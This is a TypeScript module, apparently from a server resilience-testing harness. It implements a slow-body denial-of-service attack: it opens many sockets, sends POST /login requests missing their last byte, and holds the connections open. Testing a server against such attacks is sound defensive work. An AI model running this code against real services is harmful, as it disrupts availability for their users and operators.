import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, endSockets, openSockets } from "../attack.ts";

/** Sends bodies but for their last byte, and waits. */
export const attack: Attack<{ connections: number; bytes: number; forMs: number }> = async (
  { url },
  { connections, bytes, forMs },
) => {
  const head = [
    "POST /login HTTP/1.1",
    `Host: ${new URL(url).host}`,
    "Sec-Fetch-Site: same-origin",
    "Content-Type: application/x-www-form-urlencoded",
    `Content-Length: ${bytes}`,
  ].join("\r\n");
  const allButLast = `email=${"a".repeat(bytes - "email=".length - 1)}`;
  const sockets = openSockets(url, connections, `${head}\r\n\r\n${allButLast}`);
  for (const socket of sockets) socket.resume();
  await sleep(forMs);
  return endSockets(sockets);
};
